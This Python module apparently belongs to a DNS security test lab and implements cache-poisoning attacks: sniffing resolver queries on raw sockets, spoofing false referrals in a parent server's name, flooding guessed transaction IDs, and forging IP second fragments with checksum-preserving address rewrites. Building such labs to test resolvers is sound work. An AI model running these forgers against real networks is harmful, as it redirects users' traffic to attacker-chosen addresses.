# SPDX-License-Identifier: BSD-2-Clause
"""Forgers: they hear a resolver's queries at the hub and answer in the parent server's name."""

import random
import socket
import struct
import threading

import dns

ETH_IPV4, ETH_IPV6 = 0x0800, 0x86DD


def checksum(octets):
    """The Internet checksum."""
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source, target, sport, dport, payload, hops, ident=0):
    """An IPv4 or IPv6 packet with one UDP datagram, checksums right."""
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, target)
    length = 8 + len(payload)
    udp = struct.pack("!4H", sport, dport, length, 0) + payload
    pseudo = ends + (struct.pack("!I3xB", length, 17) if family == socket.AF_INET6
                     else struct.pack("!xBH", 17, length))
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, length, 17, hops) + ends + udp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, ident, 0, hops, 17, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


class Query:
    """A DNS query over UDP seen on the wire."""

    def __init__(self, frame):
        self.sender = frame[6:12]
        kind = struct.unpack_from("!H", frame, 12)[0]
        packet = frame[14:]
        if kind == ETH_IPV4 and packet[9] == 17:
            start, family = (packet[0] & 15) * 4, socket.AF_INET
            ends = packet[12:16], packet[16:20]
        elif kind == ETH_IPV6 and packet[6] == 17:
            start, family = 40, socket.AF_INET6
            ends = packet[8:24], packet[24:40]
        else:
            raise dns.FormatError("not UDP")
        self.source, self.target = (socket.inet_ntop(family, end) for end in ends)
        self.sport, self.dport, length = struct.unpack_from("!3H", packet, start)
        self.payload = packet[start + 8:start + length]
        if self.dport != 53:
            raise dns.FormatError("not to a server")
        self.message = dns.Message(self.payload)
        self.name, self.qtype, _ = self.message.questions[0]

    def question(self):
        """The question section as it was sent, letter case and all."""
        return self.payload[12:12 + len(dns.name_wire(self.name)) + 4]


class Injector:
    """Hears queries from VICTIMS to SERVERS for names under CUTS and sends what `act` gives.

    HOPS is the IP TTL that the forged packets arrive with. An injector that is not ACTIVE only
    listens.
    """

    def __init__(self, host, victims, server_addresses, cuts, hops):
        self.lab = host.lab
        self.victims = victims
        self.servers = server_addresses
        self.cuts = cuts
        self.hops = hops
        self.forged = 0
        self.active = True
        self.hwaddr = host.hwaddr()
        self.ear = self.lab.socket_in(self.lab.hub, socket.AF_PACKET, socket.SOCK_RAW,
                                      socket.htons(3))
        self.ear.bind(("hub", 3))
        self.ear.settimeout(0.2)
        self.mouth = host.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.mouth.bind(("eth0", 0))

    def begin(self):
        """Start listening."""
        self.lab.thread(self.work)
        return self

    def work(self):
        """Forge until the lab closes."""
        while not self.lab.closing.is_set():
            try:
                frame = self.ear.recv(65535)
                query = Query(frame)
            except (TimeoutError, dns.FormatError, struct.error, IndexError):
                continue
            if self.active and self.wants(query):
                for seconds, forged in self.act(query):
                    self.send(seconds, forged)

    def send(self, seconds, frame):
        """Send one forged frame, now or later."""
        self.forged += 1
        if seconds:
            threading.Timer(seconds, self.mouth.send, (frame,)).start()
        else:
            self.mouth.send(frame)

    def wants(self, query):
        """Whether this query is one to answer falsely."""
        return (query.source in self.victims and query.target in self.servers
                and self.cut_of(query) is not None and not query.message.is_response())

    def cut_of(self, query):
        """The one of the cuts that the query's name is under, or None."""
        name = "." + query.name.lower()
        return next((cut for cut in self.cuts if name.endswith("." + cut)), None)

    def act(self, query):
        """Give (seconds from now, frame) for each forged frame."""
        raise NotImplementedError

    def frame(self, query, payload, source=None, dport=None):
        """A false frame with PAYLOAD for the sender of QUERY."""
        packet = udp_packet(source or query.target, query.source, 53, dport or query.sport,
                            payload, self.hops, (self.forged + 1) & 0xFFFF)
        kind = ETH_IPV6 if ":" in query.source else ETH_IPV4
        return query.sender + self.hwaddr + struct.pack("!H", kind) + packet


def false_referral(query, records, ident=None, question=None):
    """The payload of a false referral; RECORDS are its authority and additional sections."""
    authority, additional = records
    return dns.message(query.message.ident if ident is None else ident, dns.QR,
                       [question or query.question()], [], authority,
                       list(additional) + [dns.opt()])


class Forger(Injector):
    """Answers each query with a false referral, after SECONDS; RECORDS as in false_referral."""

    def __init__(self, host, victims, server_addresses, cut, records, hops, seconds=0):
        super().__init__(host, victims, server_addresses, [cut], hops)
        self.records = records
        self.seconds = seconds

    def act(self, query):
        yield self.seconds, self.frame(query, false_referral(query, self.records))


class Flood(Injector):
    """Answers each query with COUNT false referrals under as many ids, one right if so told."""

    def __init__(self, host, victims, server_addresses, cut, records, hops, count, seed):
        super().__init__(host, victims, server_addresses, [cut], hops)
        self.records = records
        self.count = count
        self.right = False
        self.rng = random.Random(seed)

    def act(self, query):
        true = query.message.ident
        idents = [ident for ident in self.rng.sample(range(65536), self.count) if ident != true]
        if self.right:
            idents[self.rng.randrange(len(idents) // 2, len(idents))] = true
        for ident in idents:
            yield 0, self.frame(query, false_referral(query, self.records, ident))


class Injected(Injector):
    """Answers each query with what MAKE gives for (query, cut): a payload, or None; SECONDS late.

    SOURCES, if any, maps the server asked to the one that the packets seem to come from.
    """

    def __init__(self, host, victims, server_addresses, cuts, hops, make, seconds=0, sources=None):
        super().__init__(host, victims, server_addresses, cuts, hops)
        self.make = make
        self.seconds = seconds
        self.sources = sources or {}

    def act(self, query):
        payload = self.make(query, self.cut_of(query))
        if payload is not None:
            yield self.seconds, self.frame(query, payload, self.sources.get(query.target))


class Fragment:
    """One fragment of a UDP datagram over IPv4 or IPv6: where it belongs and what it holds."""

    def __init__(self, frame):
        self.frame = frame
        packet = frame[14:]
        kind = struct.unpack_from("!H", frame, 12)[0]
        if kind == ETH_IPV4 and packet[9] == 17:
            where = struct.unpack_from("!H", packet, 6)[0]
            self.start, self.more = (where & 0x1FFF) * 8, bool(where & 0x2000)
            self.head, self.target = 20, packet[16:20]
            self.key = packet[4:6] + packet[12:20]
            length = struct.unpack_from("!H", packet, 2)[0]
        elif kind == ETH_IPV6 and packet[6] == 44 and packet[40] == 17:
            where = struct.unpack_from("!H", packet, 42)[0]
            self.start, self.more = where & 0xFFF8, bool(where & 1)
            self.head, self.target = 48, packet[24:40]
            self.key = packet[44:48] + packet[8:40]
            length = 40 + struct.unpack_from("!H", packet, 4)[0]
        else:
            raise dns.FormatError("no fragment")
        self.data = packet[self.head:length]

    def copy(self, data, hops):
        """The frame again with DATA in place of its own, as long, and HOPS as its IP TTL."""
        head = bytearray(self.frame[:14 + self.head])
        if self.head == 20:
            head[22], head[24:26] = hops, b"\0\0"
            struct.pack_into("!H", head, 24, checksum(bytes(head[14:])))
        else:
            head[21] = hops
        return bytes(head) + data


class FragmentForger:
    """What a line does where second fragments of a server's replies to VICTIMS are replaced.

    The forged second fragment, addresses in it turned into FORGED and the sum of all words kept,
    overtakes the true first one. The true second one follows unless LOSE.
    """

    def __init__(self, victims, forged, seconds, lose, hops=61):
        self.victims = [pack_address(victim) for victim in victims]
        self.forged = pack_address(forged)
        self.seconds = seconds
        self.lose = lose
        self.hops = hops
        self.active = False
        self.firsts = {}
        self.names = set()

    def __call__(self, frame, outward):
        true = ((self.seconds, frame),)
        if not outward or not self.active:
            return true
        try:
            fragment = Fragment(frame)
        except dns.FormatError:
            return true
        if fragment.target not in self.victims:
            return true
        if fragment.more and not fragment.start:
            self.firsts[fragment.key] = fragment.data
        elif fragment.start and not fragment.more and fragment.key in self.firsts:
            forged = self.forge(self.firsts.pop(fragment.key), fragment)
            if forged:
                return ((0, forged),) + (() if self.lose else true)
        return true

    def forge(self, first, second):
        """The false frame for the fragment SECOND; None if no address lies in it."""
        whole = first + second.data
        changed = bytearray(whole)
        spare = None
        for owner, rtype, _, at, length in dns.Message(whole[8:]).additional:
            if rtype == 1 and at + 8 >= len(first):
                changed[at + 8:at + 12] = self.forged
                self.names.add(owner.lower())
            elif rtype == 28 and at + 8 >= len(first) and length == 16:
                spare = at + 22 - at % 2
        if changed == whole or spare is None:
            return None
        word = struct.unpack_from("!H", changed, spare)[0]
        struct.pack_into("!H", changed, spare, (word + word_sum(whole) - word_sum(changed)) % 65535)
        return second.copy(bytes(changed[len(first):]), self.hops)


def pack_address(address):
    """An address as octets."""
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def word_sum(octets):
    """The sum of the 16-bit words of OCTETS, as the checksum sees it."""
    return ~checksum(bytes(octets)) & 0xFFFF
